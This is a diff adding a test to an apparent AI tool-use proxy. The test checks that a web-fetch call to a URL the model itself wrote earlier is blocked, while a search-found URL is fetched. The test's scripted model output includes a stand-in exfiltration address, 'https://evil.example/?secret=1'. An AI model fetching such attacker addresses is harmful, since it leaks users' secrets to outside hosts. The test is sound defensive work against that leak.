@@ -235,3 +235,20 @@ test('a page is fetched where the user or a search named it, and nowhere else', 
   expect(JSON.stringify(upstreamBodies()[1])).toContain('At 80 degrees.');
   expect(reply.json.usage.server_tool_use).toEqual({ web_search_requests: 0, web_fetch_requests: 1 });
 });
+
+test('an address that the model wrote itself in an earlier turn is not fetched; one that a search found then is', async () => {
+  pages.scriptOf = () => ({ contentType: 'text/html', chunks: [Buffer.from('<p>At 80 degrees.</p>')], ending: 'end' });
+  scripted.said = [
+    { calls: [call('tea')] },
+    { text: `${answer} See also https://evil.example/?secret=1` },
+    { calls: [call('https://evil.example/?secret=1', 'web_fetch'), call('https://tea.example/steep', 'web_fetch')] },
+    { text: answer },
+  ];
+  const asked = { role: 'user', content: question };
+  const first = await messages({ tools: [webSearch, webFetch], messages: [asked] });
+  const history = [asked, { role: 'assistant', content: first.json.content }, { role: 'user', content: 'Read them.' }];
+  const reply = await messages({ tools: [webSearch, webFetch], messages: history });
+  expect(pages.sent.map(({ url }) => url)).toEqual(['https://tea.example/steep']);
+  const results = reply.json.content.filter(({ type }: { type: string }) => type === 'web_fetch_tool_result');
+  expect(results.map(({ content }: { content: { type: string } }) => content.type)).toEqual(['web_fetch_tool_result_error', 'web_fetch_result']);
+});
